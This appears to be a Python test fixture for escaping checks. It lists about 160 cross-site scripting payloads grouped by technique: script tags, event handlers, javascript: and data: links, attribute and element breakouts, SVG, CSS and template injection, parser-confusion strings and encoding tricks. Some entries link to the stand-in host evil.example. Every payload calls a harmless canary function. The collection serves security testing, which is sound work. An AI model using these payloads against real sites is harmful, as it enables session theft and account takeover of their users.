"""Texts that run a script wherever somebody forgot to escape them; each calls ran() if it gets so far.

Collected by the ways in which pages have been broken: tags, event handlers, links, attributes that are broken out of,
elements that end early, other languages inside HTML, parsers that read a text twice and differently, and odd bytes.
"""

TAGS = [
    "<script>ran(1)</script>",
    "<SCRIPT>ran(2)</SCRIPT>",
    "<script src=/api/v1/search?q=ran()></script>",
    "<script\n>ran(3)</script\n>",
    "<script/x>ran(4)</script>",
    "<scr<script>ipt>ran(5)</scr</script>ipt>",
    "<<script>ran(6)//<</script>",
    "<script type=module>ran(7)</script>",
    "<script>\\u0072an(8)</script>",
    "<iframe src=javascript:ran(9)></iframe>",
    "<iframe srcdoc='<script>parent.ran(10)</script>'></iframe>",
    "<object data=javascript:ran(11)></object>",
    "<object data='data:text/html,<script>parent.ran(12)</script>'></object>",
    "<embed src=javascript:ran(13)>",
    "<base href=javascript:ran(14)//>",
    "<meta http-equiv=refresh content='0;url=javascript:ran(15)'>",
    "<link rel=stylesheet href=javascript:ran(16)>",
    "<link rel=import href='data:text/html,<script>ran(17)</script>'>",
    "<form action=javascript:ran(18)><input type=submit></form>",
    "<isindex action=javascript:ran(19) type=image>",
    "<frameset onload=ran(20)>",
    "<applet code=ran(21)>",
    "<portal src=javascript:ran(22)>",
]

HANDLERS = [
    "<img src=x onerror=ran(23)>",
    "<img src=x onerror=\"ran(24)\">",
    "<img src=x oNeRrOr=ran(25)>",
    "<img/src=x/onerror=ran(26)>",
    "<img src onerror=ran(27) ",
    "<img src=x onerror=&#114;&#97;&#110;&#40;&#41;>",
    "<img src=x:x onerror=ran`29`>",
    "<img srcset=x onerror=ran(30)>",
    "<image src=x onerror=ran(31)>",
    "<body onload=ran(32)>",
    "<body onpageshow=ran(33)>",
    "<details open ontoggle=ran(34)>",
    "<video src=x onerror=ran(35)></video>",
    "<video><source onerror=ran(36)></video>",
    "<audio src=x onerror=ran(37)></audio>",
    "<input autofocus onfocus=ran(38)>",
    "<select autofocus onfocus=ran(39)>",
    "<textarea autofocus onfocus=ran(40)>",
    "<a id=x tabindex=1 autofocus onfocus=ran(41)>x</a>",
    "<div contenteditable autofocus onfocus=ran(42)>",
    "<marquee onstart=ran(43)>",
    "<div style='animation:x' onanimationstart=ran(44)>",
    "<div onpointerrawupdate=ran(45) onmouseover=ran(45) style=position:fixed;inset:0>x</div>",
    "<button popovertarget=x>x</button><b id=x popover onbeforetoggle=ran(46)>",
    "<dialog open onclose=ran(47)><form method=dialog><button autofocus>x</button></form></dialog>",
    "<xss oncontentvisibilityautostatechange=ran(48) style=display:block;content-visibility:auto>",
    "<iframe onload=ran(49)></iframe>",
    "<object onerror=ran(50) data=x></object>",
    "<style onload=ran(51)></style>",
    "<link rel=stylesheet href=/assets/x.css onerror=ran(52)>",
    "<track default onerror=ran(53)>",
]

LINKS = [
    "[x](javascript:ran(54))",
    "[x](JaVaScRiPt:ran(55))",
    "[x](java\tscript:ran(56))",
    "[x](<javascript:ran(57)>)",
    "[x](&#106;avascript:ran(58))",
    "[x](javascript&colon;ran(59))",
    "[x](\x01javascript:ran(60))",
    "[x](data:text/html,<script>ran(61)</script>)",
    "[x](data:text/html;base64,PHNjcmlwdD5yYW4oNjIpPC9zY3JpcHQ+)",
    "[x](vbscript:ran(63))",
    "[x](//evil.example/ran)",
    "[x](\\\\evil.example\\ran)",
    "[x]: javascript:ran(66)\n[x]",
    "<javascript:ran(67)>",
    "<data:text/html,ran(68)>",
    "![x](javascript:ran(69))",
    "![x\" onerror=\"ran(70)](x)",
    "[x](http://a.example/\"onmouseover=\"ran(71))",
    "[x](http://a.example/ \"onmouseover=ran(72)\")",
    "[x](http://a.example/'onmouseover='ran(73))",
    "[<img src=x onerror=ran(74)>](http://a.example/)",
    "[x](https://user:ran@evil.example@www.gov.uk/<script>ran(75)</script>)",
    "javascript:ran(76)",
    "javascript://www.gov.uk/%0Aran(77)",
    "data:text/html,<script>ran(78)</script>",
    "https://www.gov.uk/\"><script>ran(79)</script>",
    "blob:http://localhost/ran",
]

BREAKOUTS = [
    "\"><script>ran(81)</script>",
    "'><script>ran(82)</script>",
    "\" autofocus onfocus=ran(83) x=\"",
    "' autofocus onfocus=ran(84) x='",
    "` autofocus onfocus=ran(85) x=`",
    "\" style=\"x:expression(ran(86))\" x=\"",
    "</textarea><script>ran(87)</script>",
    "</title><script>ran(88)</script>",
    "</script><script>ran(89)</script>",
    "</style><script>ran(90)</script>",
    "</option></select><script>ran(91)</script>",
    "</datalist><img src=x onerror=ran(92)>",
    "</template><img src=x onerror=ran(93)>",
    "</noscript><img src=x onerror=ran(94)>",
    "</main></body></html><script>ran(95)</script>",
    "--><script>ran(96)</script><!--",
    "]]><script>ran(97)</script>",
    "?><script>ran(98)</script>",
    "&lt;script&gt;ran(99)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;ran(100)&amp;lt;/script&amp;gt;",
    "\\\"><script>ran(101)</script>",
    "x\"-ran(102)-\"",
    "'-ran(103)-'",
    "\\'-ran(104)//",
]

OTHER_LANGUAGES = [
    "<svg onload=ran(105)>",
    "<svg><script>ran(106)</script></svg>",
    "<svg><script>ran&lpar;107&rpar;</script></svg>",
    "<svg><script href=data:,ran(108) />",
    "<svg><animate onbegin=ran(109) attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:ran(110)><text x=20 y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><a href=javascript:ran(111)>x</a></svg>#x'></svg>",
    "<svg><set attributeName=onmouseover to=ran(112)>",
    "<svg><foreignObject><iframe onload=ran(113)></foreignObject></svg>",
    "<math><a xlink:href=javascript:ran(114)>x</a></math>",
    "<math><maction actiontype=statusline#http://x xlink:href=javascript:ran(115)>x</maction></math>",
    "<style>@import 'javascript:ran(116)';</style>",
    "<style>*{background:url(javascript:ran(117))}</style>",
    "<div style=background:url(javascript:ran(118))>",
    "<div style=width:expression(ran(119))>",
    "<p style=position:fixed;inset:0;background:red>covered</p>",
    "{{constructor.constructor('ran(121)')()}}",
    "${ran(122)}",
    "#{ran(123)}",
    "<%= ran(124) %>",
    "{plan.period}<script>ran(125)</script>{plan.title}",
    "{plan.title\"><script>ran(126)</script>}",
    "=HYPERLINK(\"javascript:ran(127)\")",
    "@SUM(ran)|cmd",
]

READ_TWICE = [
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=ran(129)&gt;\">",
    "<svg></p><style><a id=\"</style><img src=1 onerror=ran(130)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=ran(131)>\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran(132)>",
    "<table><td><svg><desc><td></desc><title></title><style></title><img src onerror=ran(133)></style>",
    "<template><script>ran(134)</script></template>",
    "<textarea><img title=\"</textarea><img src=x onerror=ran(135)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=ran(136)>\">",
    "<plaintext><script>ran(137)</script>",
    "<a href=\"x`<img src=x onerror=ran(138)>`\">x</a>",
    "<select><iframe></select><img src=x: onerror=ran(139)>",
    "```html\n<script>ran(140)</script>\n```",
    "`</code><script>ran(141)</script>`",
    "> <script>ran(142)</script>\n> - <img src=x onerror=ran(142)>",
    "# <script>ran(143)</script>",
    "| a | b |\n|---|---|\n| <img src=x onerror=ran(144)> | [x](javascript:ran(144)) |",
    "<div id=preview><img src=x onerror=ran(145)></div>",
    "<form id=wording data-draft=//evil.example/ran><input name=seen>",
    "<img name=getElementById><img name=querySelector><form name=body><input name=children>",
]

ODD_LETTERS = [
    "\uff1cscript\uff1eran(148)\uff1c/script\uff1e",
    "<script\u2028>ran(149)</script>",
    "<img src=x\u00a0onerror=ran(150)>",
    "<\u0073cript>ran(151)</script>",
    "\ufeff<script>ran(152)</script>",
    "<script>ran(153)</script>\u202e",
    "<scr\u0131pt>ran(154)</scr\u0131pt>",
    "<\u017fcript>ran(155)</\u017fcript>",
    "+ADw-script+AD4-ran(156)+ADw-/script+AD4-",
    "\u00bcscript\u00beran(157)\u00bc/script\u00be",
    "%3Cscript%3Eran(158)%3C/script%3E",
    "%253Cscript%253Eran(159)%253C/script%253E",
    "\\x3cscript\\x3eran(160)\\x3c/script\\x3e",
    "\u202a<img src=x onerror=ran(161)>\u0000",
]

ALL = TAGS + HANDLERS + LINKS + BREAKOUTS + OTHER_LANGUAGES + READ_TWICE + ODD_LETTERS

# Bytes that are no UTF-8, as an address or a form would carry them.
BROKEN_BYTES = [
    "%C0%BCscript%C0%BEran(170)%C0%BC/script%C0%BE", "%FF%FE%3Cscript%3Eran(171)%3C/script%3E", "%ED%A0%80%3Cscript%3Eran(172)%3C/script%3E",
    "%E0%80%BCscript%3Eran(173)", "%F8%A1%A1%A1%A1%3Cimg%20src=x%20onerror=ran(174)%3E", "%3Cscript%E2%80%3Eran(175)%3C/script%3E", "%", "%zz<script>ran(176)</script>",
]


def packed(limit, separator="\n\n", payloads=ALL):
    """All of them in as few texts as a field's limit allows; one that is longer than the limit is left out."""
    texts = [""]
    for payload in payloads:
        if len(payload) > limit:
            continue
        if len(texts[-1]) + len(separator) + len(payload) > limit:
            texts.append("")
        texts[-1] += (separator if texts[-1] else "") + payload
    return texts
